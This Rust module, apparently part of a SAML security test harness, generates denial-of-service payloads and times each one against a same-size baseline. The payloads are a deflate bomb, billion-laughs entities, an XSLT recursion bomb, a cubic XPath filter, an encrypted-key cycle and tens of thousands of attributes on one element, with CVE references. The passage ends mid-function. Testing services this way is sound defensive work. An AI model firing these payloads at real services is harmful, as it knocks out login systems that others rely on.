//! Denial of service: small messages that make an SP do far more work than their size, each
//! posted as the `SAMLResponse` of an SP-initiated login and timed against a yardstick of the
//! same size, and messages that kill the worker reading them (answered or not, against a
//! yardstick that differs only where the crash is reached).

use std::io::Write;
use std::sync::OnceLock;

use base64::Engine;
use saml_protocol::xmlenc::{ENCRYPTED_KEY_TYPE, XENC_NS};
use saml_protocol::{ASSERTION_NS, DSIG_NS, ENVELOPED, EXC_C14N, PROTOCOL_NS, SOAP11_ENVELOPE_NS};

use crate::bytes::{self, Doc, Node};
use crate::check::{Burden, BURDEN_FLOOR, QUICK_FLOOR, SAME_SIZE_RATIO, SAME_WORK_RATIO};
use crate::family::dsig::{empty_digest, XPATH_TRANSFORM, XSLT_TRANSFORM};
use crate::forge::{Forge, Skip};

/// The line feeds the deflate bomb puts before the response: 32 MiB, three times the largest
/// bound a fixed library sets (crewjam/saml 10 MiB, gosaml2 5 MiB, ruby-saml 250,000 bytes),
/// from about 45 KB of base64.
pub const BOMB_PADDING: usize = 32 << 20;

/// How many exclusive-C14N transforms the signature's Reference gets: every one canonicalises
/// the signed element again (a SAML signature needs two transforms at most).
pub const TRANSFORMS: usize = 2_500;

/// The characters of the claim that makes the signed element large, so that each transform
/// costs: with [`TRANSFORMS`], about 460 KB of base64, under a 512 KiB form limit.
pub const TRANSFORMS_PADDING: usize = 180_000;

/// `xml` base64-encoded, as the HTTP-POST binding carries it.
pub(crate) fn encoded(xml: impl AsRef<[u8]>) -> String {
    base64::engine::general_purpose::STANDARD.encode(xml)
}

/// Base64 of random letters and digits (no markup for a lenient parser to build elements
/// from), `encoded_len` characters long.
fn random_text_as_long_as(encoded_len: usize) -> String {
    let text: Vec<u8> = std::iter::repeat_with(fastrand::alphanumeric)
        .take(encoded_len / 4 * 3)
        .map(|c| c as u8)
        .collect();
    encoded(text)
}

/// [`BOMB_PADDING`] line feeds, raw-DEFLATE compressed as non-final blocks ending in a sync
/// flush, so any raw-DEFLATE stream may follow them: built once per process.
fn padding_blocks() -> Result<&'static [u8], String> {
    static BLOCKS: OnceLock<Result<Vec<u8>, String>> = OnceLock::new();
    BLOCKS
        .get_or_init(|| {
            let mut deflater =
                flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
            let lines = [b'\n'; 1 << 16];
            for _ in 0..BOMB_PADDING / lines.len() {
                deflater.write_all(&lines).map_err(|e| e.to_string())?;
            }
            // A sync flush: the blocks so far, none final, ending on a byte boundary.
            deflater.flush().map_err(|e| e.to_string())?;
            Ok(std::mem::take(deflater.get_mut()))
        })
        .as_deref()
        .map_err(|e| format!("could not deflate the bomb: {e}"))
}

/// `xml` without its XML declaration (nothing may come before one).
fn undeclared(xml: &str) -> &str {
    match xml.trim_start().strip_prefix("<?xml") {
        Some(declared) => declared
            .split_once("?>")
            .map_or(xml, |(_, rest)| rest)
            .trim_start(),
        None => xml.trim_start(),
    }
}

/// `xml` (its XML declaration dropped) after [`BOMB_PADDING`] line feeds, raw-DEFLATE
/// compressed (RFC 1951, as the Redirect binding compresses): about 33 KB.
pub fn after_padding(xml: &str) -> Result<Vec<u8>, Skip> {
    let xml = undeclared(xml);
    let deflated = padding_blocks().map_err(Skip::Failed)?.to_vec();
    let mut deflater = flate2::write::DeflateEncoder::new(deflated, flate2::Compression::best());
    let failed = |e: std::io::Error| Skip::Failed(format!("could not deflate the bomb: {e}"));
    deflater.write_all(xml.as_bytes()).map_err(failed)?;
    deflater.finish().map_err(failed)
}

/// The IdP's own response for this login after [`BOMB_PADDING`] line feeds (its XML
/// declaration dropped, as nothing may come before one), raw-DEFLATE compressed (RFC 1951, as
/// the Redirect binding compresses) and base64-encoded. An SP that inflates whatever it is
/// posted, unbounded, inflates and parses all of it and signs the user in; one that bounds
/// what it inflates is left with blank lines (ruby-saml < 1.18.0 CVE-2025-25293, gosaml2
/// < 0.9.0 CVE-2023-26483; crewjam/saml CVE-2023-28119 inflated Redirect messages unbounded).
pub fn deflate_bomb(f: &Forge) -> Result<Burden, Skip> {
    Doc::parse(f.seed)?;
    let response = undeclared(f.seed);
    let posted = encoded(after_padding(response)?);
    Ok(Burden {
        yardstick: random_text_as_long_as(posted.len()),
        yardstick_is: "same-size random letters and digits",
        ratio: SAME_SIZE_RATIO,
        floor: BURDEN_FLOOR,
        ignorable: false,
        by_redirect: false,
        crash: false,
        oversize: false,
        delay: false,
        encoded: posted,
        shown: format!(
            "<!-- raw DEFLATE, then base64: inflates to {} MiB -->\n<!-- {} MiB of line feeds -->\n{response}",
            (BOMB_PADDING + response.len()) >> 20,
            BOMB_PADDING >> 20
        ),
    })
}

/// [`deflate_bomb`] by HTTP-Redirect: a GET of the ACS with the bomb as its `SAMLResponse`
/// query parameter (about 45 KB of query), as Spring Security's SAML 2.0 login takes a
/// Response and inflated it with no bound (CVE-2026-40988). An SP that takes no Response by
/// Redirect, or whose server refuses so long a URL, refuses it at once.
pub fn deflate_bomb_by_redirect(f: &Forge) -> Result<Burden, Skip> {
    Ok(Burden {
        by_redirect: true,
        ..deflate_bomb(f)?
    })
}

/// Where every response, encrypted assertion or not, has room for more: right after the
/// Response's Issuer (or its start tag, without one).
fn after_response_issuer(doc: &Doc) -> usize {
    let response = doc.tree.root_element();
    bytes::child(response, ASSERTION_NS, "Issuer").map_or_else(
        || bytes::after_start_tag(doc.src, response),
        |i| i.range().end,
    )
}

/// How many bytes of empty elements the raw-XML burden carries: 448 KiB, so the message is
/// well over the 250,000 bytes ruby-saml takes and, posted with only what a form must escape
/// escaped, under the body limits servers set by default (Werkzeug 500 KB, nginx 1 MiB).
/// Debian 12's ruby-saml 1.13.0 behind WEBrick took 1.5 to 1.7 s over 256 KiB of them here.
pub const RAW_XML_PADDING: usize = 448 << 10;

/// How many `<x/>` each `<y>` of the raw-XML padding holds: kept in groups, as a document-order
/// walk quadratic in siblings (npm xpath) would otherwise cost minutes.
const RAW_XML_GROUP: usize = 100;

/// The IdP's own response, posted as raw XML instead of base64, with [`RAW_XML_PADDING`]
/// bytes of empty elements (`<y>` of [`RAW_XML_GROUP`] `<x/>`, about 112,000 elements) right
/// after the Response's Issuer. ruby-saml before 1.18.1 took a message that does not look
/// like base64 as the XML itself and checked the size only of base64 messages, so any size
/// of raw XML reached REXML (CVE-2025-54572). The yardstick is as many random letters and
/// digits in base64: an SP with a size limit refuses it, one without decodes text no parser
/// takes. An SP that refuses non-base64 messages, or bounds every message before parsing it,
/// answers both at once.
pub fn raw_xml_oversize(f: &Forge) -> Result<Burden, Skip> {
    let doc = Doc::parse(f.seed)?;
    let at = after_response_issuer(&doc);
    let group = format!("<y>{}</y>", "<x/>".repeat(RAW_XML_GROUP));
    let groups = RAW_XML_PADDING / group.len();
    let with = |padding: String| bytes::splice(doc.src, vec![bytes::insert(at, padding)]);
    let raw = with(group.repeat(groups));
    Ok(Burden {
        yardstick: random_text_as_long_as(raw.len()),
        yardstick_is: "same-size random letters and digits",
        // As long on the wire, with as little to unescape: whatever the burden costs beyond
        // it is the raw XML's.
        ratio: SAME_WORK_RATIO,
        floor: BURDEN_FLOOR,
        // Outside the signed Assertion: an SP may take raw XML and sign the user in rightly,
        // at whatever cost; only time tells.
        ignorable: true,
        by_redirect: false,
        crash: false,
        oversize: true,
        delay: false,
        shown: with(format!(
            "<!-- posted as raw XML, not base64 --><y><x/><!-- … {} more <x/> --></y><!-- … {} more <y> ({} bytes of them in all) -->",
            RAW_XML_GROUP - 1,
            groups - 1,
            group.len() * groups
        )),
        encoded: raw,
    })
}

/// The IdP's own response with [`TRANSFORMS`] exclusive-C14N transforms in the References of
/// its signatures (shared between the Response's and the Assertion's when both are signed,
/// so the message stays under a 512 KiB form limit) and a [`TRANSFORMS_PADDING`]-character
/// claim in the Assertion. The signatures no longer verify, but a verifier that runs a
/// Reference's transforms before it checks the SignatureValue canonicalises the large
/// element once per transform first (passport-saml < 3.1.0 CVE-2021-39171, through
/// xml-crypto; libxmlsec1 runs them too). The yardstick is the same response and claim with
/// only its own transforms, its enveloped-signature one holding instead a foreign element with
/// as many `<x Algorithm="…"/>` elements, the same length in all: the same bytes and elements to
/// parse, as many of them in SignedInfo (a canonicaliser whose cost grows faster than
/// SignedInfo's size spends the same on both: see [`large_signed_info`]) and no more
/// transforms to run, so an SP that refuses extra transforms before it runs them spends about
/// the same on both.
pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
    let doc = Doc::parse(f.seed)?;
    let signed = signed_transforms(&doc)?;
    let (at_claim, claim) = padding_claim(&doc, doc.assertion()?)?;
    let each = TRANSFORMS / signed.len();
    let (mut burden, mut yardstick, mut shown) = (
        vec![bytes::insert(at_claim, claim.clone())],
        vec![bytes::insert(at_claim, claim)],
        vec![bytes::insert(
            at_claim,
            format!("<!-- a claim of {TRANSFORMS_PADDING} characters -->"),
        )],
    );
    for transforms in signed {
        let ds = ds_prefix(&doc, transforms);
        let extra = format!("<{ds}Transform Algorithm=\"{EXC_C14N}\"/>");
        let own = transforms.children().filter(|n| n.is_element()).count();
        let added = each.saturating_sub(own);
        let at = bytes::before_end_tag(doc.src, transforms);
        burden.push(bytes::insert(at, extra.repeat(added)));
        shown.push(bytes::insert(at, format!("<!-- {added} more: {extra} -->")));
        let padded = padded_transform(transforms)?;
        let elements = format!("<x Algorithm=\"{EXC_C14N}\"/>").repeat(added);
        let bare = bytes::append_content(doc.src, padded, &foreign(&elements, 0));
        let spaces = (extra.len() * added)
            .checked_sub(grown(&bare))
            .ok_or_else(|| {
                Skip::Failed("the yardstick's elements are longer than the burden's".into())
            })?;
        yardstick.push(bytes::append_content(
            doc.src,
            padded,
            &foreign(&elements, spaces),
        ));
    }
    Ok(Burden {
        encoded: encoded(bytes::splice(doc.src, burden)),
        shown: bytes::splice(doc.src, shown),
        yardstick: encoded(bytes::splice(doc.src, yardstick)),
        yardstick_is: "the same-size response with only its own transforms, as many elements inside its enveloped-signature one",
        ratio: SAME_SIZE_RATIO,
        floor: BURDEN_FLOOR,
        ignorable: false,
        by_redirect: false,
        crash: false,
        oversize: false,
        delay: false,
    })
}

/// Levels of the entity-expansion burden's nested entities, ten references to the level
/// below in each: the outermost stands for 10⁹ copies of the innermost's three letters.
const ENTITY_LEVELS: usize = 10;

/// The IdP's own response (its XML declaration dropped) after `<!DOCTYPE … [subset]>`, with
/// `references` at the end of the Response's Issuer: the one text every SP reads, so a parser
/// that expands entities only when a text is read (REXML; libxml2 2.9 with XML_PARSE_HUGE and
/// no substitution) meets them too. Outside the Assertion's signature (inside the Response's,
/// when the IdP signs that).
fn with_entities(f: &Forge, subset: &str, references: &str) -> Result<String, Skip> {
    let seed = crate::family::xsw::embeddable(f.seed);
    let doc = Doc::parse(seed)?;
    let root = doc.root();
    let issuer = bytes::child(root, ASSERTION_NS, "Issuer").ok_or_else(|| {
        Skip::NotApplicable("the Response has no Issuer to reference the entity in".into())
    })?;
    let xml = bytes::splice(
        doc.src,
        vec![bytes::insert(
            bytes::before_end_tag(doc.src, issuer),
            references,
        )],
    );
    let name = bytes::qualified_name(doc.src, root);
    Ok(format!("<!DOCTYPE {name} [{subset}]>{xml}"))
}

/// The IdP's own response with an internal DTD subset of [`ENTITY_LEVELS`] nested entities
/// (`l0` is "lol", each `lN` ten `&l(N-1);`) and `&l9;` in the Response's Issuer (billion
/// laughs, research catalogue XXE-04): a parser that substitutes entities with no
/// amplification limit builds 3 × 10⁹ bytes before anything is verified. The yardstick
/// references `&l0;`: the same bytes, so a parser that refuses DTDs, or bounds the
/// expansion, spends the same on either.
pub fn entity_expansion(f: &Forge) -> Result<Burden, Skip> {
    let subset: String = (0..ENTITY_LEVELS)
        .map(|level| match level {
            0 => "<!ENTITY l0 \"lol\">".to_owned(),
            n => format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)),
        })
        .collect();
    let burden = with_entities(f, &subset, &format!("&l{};", ENTITY_LEVELS - 1))?;
    Ok(Burden {
        encoded: encoded(&burden),
        shown: burden,
        yardstick: encoded(with_entities(f, &subset, "&l0;")?),
        yardstick_is: "the same response referencing the innermost, three-letter entity",
        ratio: SAME_WORK_RATIO,
        floor: BURDEN_FLOOR,
        ignorable: true,
        by_redirect: false,
        crash: false,
        oversize: false,
        delay: false,
    })
}

/// The namespace of the elements the dos burdens and yardsticks put inside a signature or in
/// `samlp:Extensions`: a foreign one, which the content of ds:Transform (`##other`),
/// ds:Object (`##any`) and samlp:Extensions (`##other`) allows.
const FOREIGN_NS: &str = "urn:saml-harness:dos";

/// A `<w>` declaring [`FOREIGN_NS`] as the default namespace, holding `inner` (unprefixed
/// elements, in that namespace), then `pad` spaces.
fn foreign(inner: &str, pad: usize) -> String {
    format!("<w xmlns=\"{FOREIGN_NS}\">{inner}{}</w>", " ".repeat(pad))
}

/// How many bytes `edit` adds.
fn grown((range, text): &(std::ops::Range<usize>, String)) -> usize {
    text.len().saturating_sub(range.len())
}

/// The Transform in `transforms` whose content the padding goes into: the enveloped-signature
/// one, which takes no parameters, so verifiers read past its content (libxmlsec1 refuses
/// anything but InclusiveNamespaces inside an exclusive-C14N one); else the last.
fn padded_transform<'a, 'i>(transforms: Node<'a, 'i>) -> Result<Node<'a, 'i>, Skip> {
    let all = || {
        transforms
            .children()
            .filter(|n| n.has_tag_name((DSIG_NS, "Transform")))
    };
    all()
        .find(|t| t.attribute("Algorithm") == Some(ENVELOPED))
        .or_else(|| all().next_back())
        .ok_or_else(|| Skip::NotApplicable("a signature's Transforms holds no Transform".into()))
}

/// The Signature `transforms` is in.
fn signature_around<'a, 'i>(transforms: Node<'a, 'i>) -> Result<Node<'a, 'i>, Skip> {
    transforms
        .ancestors()
        .find(|n| n.has_tag_name((DSIG_NS, "Signature")))
        .ok_or_else(|| Skip::Failed("Transforms outside a Signature".into()))
}

/// How many empty elements the large-SignedInfo burden puts in every signature's SignedInfo:
/// PHP 8.2's `DOMNode::C14N` (Debian 12) took 1.6 s over 10,000 of them and 11.6 s over
/// 20,000 on this machine, a linear canonicaliser a few milliseconds.
pub const SIGNED_INFO_ELEMENTS: usize = 12_000;

/// How many of the [`SIGNED_INFO_ELEMENTS`] share a parent: npm's xpath walks siblings for
/// every node it orders (quadratic in siblings: 1.75 s per `//*[@ID=…]` over 12,000 of them,
/// 0.14 s over 120 groups of 100), a cost that is not this check's.
const SIBLINGS: usize = 100;
const _: () = assert!(SIGNED_INFO_ELEMENTS % SIBLINGS == 0);

/// The IdP's own response with [`SIGNED_INFO_ELEMENTS`] empty elements, [`SIBLINGS`] to a
/// parent, in a foreign element inside the enveloped-signature Transform of every signature's
/// Reference (schema-valid: a Transform's content is `##other`): about 70 KB per signature. A
/// verifier canonicalises SignedInfo to check the SignatureValue, so an unsigned message costs
/// whatever its canonicaliser makes of SignedInfo's size. PHP before 8.4 canonicalises an
/// element (`DOMNode::C14N`, as xmlseclibs does SignedInfo: SimpleSAMLphp 1.19, php-saml) by
/// gathering its nodes with an XPath query and testing each against that set by a linear
/// search: quadratic in SignedInfo's nodes (PHP bug 53655, fixed in PHP 8.4 by php-src
/// commit 5d68d61; xmlseclibs issue 220). The yardstick holds the same foreign element in a
/// ds:Object at the end of each signature (outside SignedInfo, removed with the signature by
/// the enveloped transform) and a SignatureValue with one character changed, so a verifier
/// refuses both at the SignatureValue. An SP that signs anyone in from the burden did not
/// check the SignatureValue at all.
pub fn large_signed_info(f: &Forge) -> Result<Burden, Skip> {
    let doc = Doc::parse(f.seed)?;
    let elements =
        format!("<y>{}</y>", "<x/>".repeat(SIBLINGS)).repeat(SIGNED_INFO_ELEMENTS / SIBLINGS);
    let summary = format!(
        "<y><x/><!-- … {} more <x/> --></y><!-- … {} more <y> of {SIBLINGS} <x/> -->",
        SIBLINGS - 1,
        SIGNED_INFO_ELEMENTS / SIBLINGS - 1
    );
    let (mut burden, mut shown, mut yardstick) = (vec![], vec![], vec![]);
    for transforms in signed_transforms(&doc)? {
        let (padded, signature) = (padded_transform(transforms)?, signature_around(transforms)?);
        let ds = ds_prefix(&doc, transforms);
        let in_transform =
            |inner: &str, pad| bytes::append_content(doc.src, padded, &foreign(inner, pad));
        let in_object = |inner: &str, pad| {
            bytes::insert(
                bytes::before_end_tag(doc.src, signature),
                format!("<{ds}Object>{}</{ds}Object>", foreign(inner, pad)),
            )
        };
        let (b, y) = (
            grown(&in_transform(&elements, 0)),
            grown(&in_object(&elements, 0)),
        );
        burden.push(in_transform(&elements, y.saturating_sub(b)));
        shown.push(in_transform(&summary, 0));
        yardstick.push(in_object(&elements, b.saturating_sub(y)));
        yardstick.extend(broken_signature_value(doc.src, signature));
    }
    Ok(Burden {
        encoded: encoded(bytes::splice(doc.src, burden)),
        shown: bytes::splice(doc.src, shown),
        yardstick: encoded(bytes::splice(doc.src, yardstick)),
        yardstick_is: "the same-size response with those elements in a ds:Object instead and a broken SignatureValue",
        ratio: SAME_SIZE_RATIO,
        floor: BURDEN_FLOOR,
        ignorable: false,
        by_redirect: false,
        crash: false,
        oversize: false,
        delay: false,
    })
}

/// The edit changing one base64 character in the middle of `signature`'s SignatureValue (the
/// same length, still base64, never inside a character reference), so that the signature no
/// longer verifies; none without one.
fn broken_signature_value(src: &str, signature: Node) -> Option<(std::ops::Range<usize>, String)> {
    let value = signature
        .children()
        .find(|n| n.has_tag_name((DSIG_NS, "SignatureValue")))?;
    let open = bytes::after_start_tag(src, value);
    let text = src.get(open..bytes::before_end_tag(src, value))?.as_bytes();
    // A letter or digit between two more: never inside a character reference (`&#13;`).
    let from = (text.len() / 2).max(1);
    let at = open
        + from
        + text
            .get(from - 1..)?
            .windows(3)
            .position(|w| w.iter().all(u8::is_ascii_alphanumeric))?;
    let changed = if src.as_bytes()[at] == b'A' { "B" } else { "A" };
    Some((at..at + 1, changed.to_owned()))
}

/// The Transforms of every enveloped signature on the Response and its Assertion.
fn signed_transforms<'a, 'i>(doc: &'a Doc<'i>) -> Result<Vec<Node<'a, 'i>>, Skip> {
    let transforms: Vec<_> = std::iter::once(doc.root())
        .chain(doc.assertion().ok())
        .filter_map(bytes::signature_of)
        .filter_map(|s| {
            s.descendants()
                .find(|n| n.has_tag_name((DSIG_NS, "Transforms")))
        })
        .collect();
    if transforms.is_empty() {
        return Err(Skip::NotApplicable(
            "neither the Response nor the Assertion has a signature with Transforms".into(),
        ));
    }
    Ok(transforms)
}

/// The prefix (with its colon, or nothing) `transforms` is written with: in scope for a
/// Transform added inside it.
fn ds_prefix<'a>(doc: &Doc<'a>, transforms: Node) -> &'a str {
    bytes::qualified_name(doc.src, transforms)
        .strip_suffix("Transforms")
        .unwrap_or_default()
}

/// The depth of the XSLT bomb's recursion: 2^23 - 1 template calls, about 3.4 s in libxslt
/// 1.1.35 (`xmlsec1 --verify`, this machine), each level more doubling it.
pub const XSLT_DEPTH: u32 = 22;

/// An XSLT transform (after each Reference's own, in every signature) whose template calls
/// itself twice per level, [`XSLT_DEPTH`] levels deep: no output and no fetch, only CPU. The
/// signatures no longer verify, but libxmlsec1 runs a Reference's transforms before it
/// checks the SignatureValue, and an SP that does not allow-list them runs this one
/// (python3-saml GHSA-8mmq-f9vf-8fg2, pysaml2 GHSA-6qg6-h5xq-x84c, both open). The yardstick
/// is the same stylesheet called zero levels deep.
pub fn xslt_bomb(f: &Forge) -> Result<Burden, Skip> {
    let doc = Doc::parse(f.seed)?;
    let signed = signed_transforms(&doc)?;
    let with_depth = |depth: &str| {
        let edits = signed
            .iter()
            .map(|&transforms| {
                let ds = ds_prefix(&doc, transforms);
                bytes::insert(
                    bytes::before_end_tag(doc.src, transforms),
                    format!(
                        "<{ds}Transform Algorithm=\"{XSLT_TRANSFORM}\"><xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:call-template name=\"twice\"><xsl:with-param name=\"n\" select=\"{depth}\"/></xsl:call-template></xsl:template><xsl:template name=\"twice\"><xsl:param name=\"n\"/><xsl:if test=\"$n &gt; 0\"><xsl:call-template name=\"twice\"><xsl:with-param name=\"n\" select=\"$n - 1\"/></xsl:call-template><xsl:call-template name=\"twice\"><xsl:with-param name=\"n\" select=\"$n - 1\"/></xsl:call-template></xsl:if></xsl:template></xsl:stylesheet></{ds}Transform>"
                    ),
                )
            })
            .collect();
        bytes::splice(doc.src, edits)
    };
    let depth = XSLT_DEPTH.to_string();
    let burden = with_depth(&depth);
    let zero = format!("{:<width$}", "0", width = depth.len());
    Ok(Burden {
        encoded: encoded(&burden),
        shown: burden,
        yardstick: encoded(with_depth(&zero)),
        yardstick_is: "the same-size response with the stylesheet called zero levels deep",
        ratio: SAME_SIZE_RATIO,
        floor: BURDEN_FLOOR,
        ignorable: false,
        by_redirect: false,
        crash: false,
        oversize: false,
        delay: false,
    })
}

/// How many empty elements the XPath bomb puts in the Assertion: the filter runs its
/// expression once per node of the document, and the expression counts every element once
/// per element, so the cost is cubic: 2.6 s in libxmlsec1 1.2.37 here (its yardstick 2 ms).
pub const XPATH_BULK: usize = 400;

/// The XPath bomb's expression (escaped for XML): every element counted for every element.
const XPATH_COUNT: &str = "count(//*[count(//*) &gt; 0]) &gt; 0";

/// An XPath filter transform right after each signature's enveloped-signature transform,
/// whose expression counts every element of the document for each element, and
/// [`XPATH_BULK`] empty elements in the Assertion's first claim value: evaluated once per
/// node, that is cubic in the document's size, about 3 KB of it. The
/// signatures no longer verify, but libxmlsec1 (over the whole document) and xmlseclibs 3.x
/// (over the Assertion) run a Reference's transforms before they check the SignatureValue
/// (simplesamlphp/saml2 GHSA-5cjr-mxj5-wmrx). The yardstick is the same document with the
/// expression `1=1`, padded to the same length.
pub fn xpath_bomb(f: &Forge) -> Result<Burden, Skip> {
    let doc = Doc::parse(f.seed)?;
    let signed = signed_transforms(&doc)?;
    let assertion = doc.assertion()?;
    let value = assertion
        .descendants()
        .find(|n| n.has_tag_name((ASSERTION_NS, "AttributeValue")))
        .ok_or_else(|| {
            Skip::NotApplicable("the Assertion has no claim value to hold the bulk".into())
        })?;
    let bulk = "<a/>".repeat(XPATH_BULK);
    let with_expression = |expression: &str| {
        let mut edits: bytes::Edits = signed
            .iter()
            .filter_map(|transforms| {
                let ds = ds_prefix(&doc, *transforms);
                transforms
                    .children()
                    .find(|t| t.attribute("Algorithm") == Some(ENVELOPED))
                    .map(|enveloped| {
                        bytes::insert(
                            enveloped.range().end,
                            format!("<{ds}Transform Algorithm=\"{XPATH_TRANSFORM}\"><{ds}XPath>{expression}</{ds}XPath></{ds}Transform>"),
                        )
                    })
            })
            .collect();
        edits.push(bytes::insert(
            bytes::before_end_tag(doc.src, value),
            bulk.clone(),
        ));
        bytes::splice(doc.src, edits)
    };
    let burden = with_expression(XPATH_COUNT);
    if !burden.contains(XPATH_TRANSFORM) {
        return Err(Skip::NotApplicable(
            "no signature has an enveloped-signature transform to follow".into(),
        ));
    }
    let cheap = format!("{:<width$}", "1=1", width = XPATH_COUNT.len());
    Ok(Burden {
        encoded: encoded(&burden),
        shown: burden.replace(&bulk, &format!("<a/>… ({XPATH_BULK} of them)")),
        yardstick: encoded(with_expression(&cheap)),
        yardstick_is: "the same response with the XPath expression 1=1",
        ratio: SAME_SIZE_RATIO,
        floor: BURDEN_FLOOR,
        ignorable: false,
        by_redirect: false,
        crash: false,
        oversize: false,
        delay: false,
    })
}

/// How many empty elements the encrypted-key cycle's response carries in `samlp:Extensions`:
/// xmlseclibs searches the whole document for the EncryptedKey on every turn of the cycle, so
/// each turn costs as much as the document is long (about 40 KB of them).
pub const CYCLE_BULK: usize = 10_000;

/// The Id the encrypted-key cycle gives the content key's EncryptedKey.
const CYCLE_KEY_ID: &str = "_cycle-key";

/// The Id the yardstick's inner RetrievalMethod names instead: as long, and no element's.
const NO_KEY_ID: &str = "_cycle-keX";
const _: () = assert!(CYCLE_KEY_ID.len() == NO_KEY_ID.len());

/// The IdP's own response, its Assertion encrypted to the SP (unless the IdP did; the
/// Response's signature, which the edits break, dropped), the content key's EncryptedKey
/// moved beside EncryptedData (which names it by a `ds:RetrievalMethod`) and given a KeyInfo
/// whose RetrievalMethod names that EncryptedKey itself, with [`CYCLE_BULK`] empty elements in
/// `samlp:Extensions`. xmlseclibs 3.x resolves a RetrievalMethod to an EncryptedKey and then
/// that key's own KeyInfo, with no depth limit, while it decrypts and before any signature is
/// checked: the cycle runs until PHP's memory limit, each turn a search of the whole
/// document. The yardstick is the same response with the key's RetrievalMethod naming an Id
/// no element has (as long): one turn, then a refusal. An SP that takes the EncryptedKey
/// beside EncryptedData directly may decrypt either and sign the user in.
pub fn encrypted_key_cycle(f: &Forge) -> Result<Burden, Skip> {
    let seed = Doc::parse(f.seed)?;
    // The IdP may encrypt the assertion already (the app has a token encryption certificate).
    let sealed = match bytes::child(seed.root(), ASSERTION_NS, "EncryptedAssertion") {
        Some(_) => bytes::splice(
            f.seed,
            bytes::signature_of(seed.root())
                .map(|s| (s.range(), String::new()))
                .into_iter()
                .collect(),
        ),
        None => crate::family::enc::encrypted(
            f,
            f.seed,
            saml_protocol::xmlenc::KeyTransport::RsaOaep,
            &|a| a.to_owned(),
        )?,
    };
    let doc = Doc::parse_built(&sealed)?;
    let missing = |what: &str| Skip::Failed(format!("the encrypted response has no {what}"));
    let encrypted = bytes::child(doc.root(), ASSERTION_NS, "EncryptedAssertion")
        .ok_or_else(|| missing("EncryptedAssertion"))?;
    let data = bytes::child(encrypted, XENC_NS, "EncryptedData")
        .ok_or_else(|| missing("EncryptedData"))?;
    let key_info =
        bytes::child(data, DSIG_NS, "KeyInfo").ok_or_else(|| missing("EncryptedData KeyInfo"))?;
    let key =
        bytes::child(key_info, XENC_NS, "EncryptedKey").ok_or_else(|| missing("EncryptedKey"))?;
    let method = bytes::child(key, XENC_NS, "EncryptionMethod")
        .ok_or_else(|| missing("EncryptedKey EncryptionMethod"))?;
    // The key's own KeyInfo (an IdP may name the SP's certificate there) gives way to the cycle.
    let after_own_key_info = bytes::child(key, DSIG_NS, "KeyInfo").unwrap_or(method);
    let issuer =
        bytes::child(doc.root(), ASSERTION_NS, "Issuer").ok_or_else(|| missing("Issuer"))?;
    let name = bytes::qualified_name(doc.src, key);
    let xenc = name.strip_suffix("EncryptedKey").unwrap_or_default();
    let ds = bytes::qualified_name(doc.src, key_info)
        .strip_suffix("KeyInfo")
        .unwrap_or_default();
    let retrieval =
        |id: &str| format!("<{ds}RetrievalMethod Type=\"{ENCRYPTED_KEY_TYPE}\" URI=\"#{id}\"/>");
    let bulk = "<a/>".repeat(CYCLE_BULK);
    let with_key_naming = |id: &str| {
        let own_key = format!(
            "<{name} {} Id=\"{CYCLE_KEY_ID}\">{}<{ds}KeyInfo {}>{}</{ds}KeyInfo>{}</{name}>",
            bytes::declaration(xenc, XENC_NS),
            doc.outer(method),
            bytes::declaration(ds, DSIG_NS),
            retrieval(id),
            &doc.src[after_own_key_info.range().end..bytes::before_end_tag(doc.src, key)],
        );
        bytes::splice(
            doc.src,
            vec![
                bytes::insert(
                    issuer.range().end,
                    format!(
                        "<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\"><bulk xmlns=\"{FOREIGN_NS}\">{bulk}</bulk></samlp:Extensions>"
                    ),
                ),
                (key.range(), retrieval(CYCLE_KEY_ID)),
                bytes::insert(data.range().end, own_key),
            ],
        )
    };
    let burden = with_key_naming(CYCLE_KEY_ID);
    Ok(Burden {
        encoded: encoded(&burden),
        shown: burden.replace(&bulk, &format!("<a/>… ({CYCLE_BULK} of them)")),
        yardstick: encoded(with_key_naming(NO_KEY_ID)),
        yardstick_is: "the same response with the key's RetrievalMethod naming no element",
        ratio: SAME_WORK_RATIO,
        floor: BURDEN_FLOOR,
        ignorable: true,
        by_redirect: false,
        crash: false,
        oversize: false,
        delay: false,
    })
}

/// How many attributes the many-attributes burden puts on one element: each distinct, so a
/// parser that checks every attribute against those before it for a duplicate does about a
/// billion comparisons.
pub const ATTRIBUTES: usize = 45_000;

/// How many of the [`ATTRIBUTES`] each element of the many-attributes yardstick carries:
/// under `saml_protocol::MAX_ATTRIBUTES`, so an SP bounding attributes per element takes them.
pub const SPREAD: usize = 250;
// A careful SP that bounds attributes per element takes the yardstick's.
const _: () = assert!(SPREAD <= saml_protocol::MAX_ATTRIBUTES);

/// The `i`-th of [`ATTRIBUTES`] distinct three-character attribute names (a letter, then two
/// letters or digits).
fn attribute_name(i: usize) -> String {
    const FIRST: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
    const REST: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
    let (first, rest) = (i / (REST.len() * REST.len()), i % (REST.len() * REST.len()));
    [
        FIRST[first % FIRST.len()],
        REST[rest / REST.len()],
        REST[rest % REST.len()],
    ]
    .iter()
    .map(|&b| char::from(b))
    .collect()
}

/// The IdP's own response with [`ATTRIBUTES`] distinct, empty attributes on one `<x>` element
/// in the first claim's AttributeValue (`xs:anyType`: any content is schema-valid there),
/// followed by `ATTRIBUTES / SPREAD - 1` empty `<x/>`: about 430 KB of base64. A parser that checks each attribute against every earlier one for a duplicate works
/// quadratically before anything is verified (@xmldom/xmldom <= 0.8.14 GHSA-8344-3jmq-59r6,
/// quick-xml < 0.41 RUSTSEC-2026-0194; libxml2 2.9.14, Debian 12's, took 3.3 s to parse it
/// here, 0.06 s the yardstick). The yardstick spreads the same attributes over those elements, [`SPREAD`] to each:
/// same bytes, elements and attributes, so a parser whose work is linear in attributes costs
/// the same for both (node-saml and saml2-js take about a second for either) and only
/// per-element work that grows faster sets the burden apart.
pub fn many_attributes(f: &Forge) -> Result<Burden, Skip> {
    let doc = Doc::parse(f.seed)?;
    let value = doc
        .tree
        .descendants()
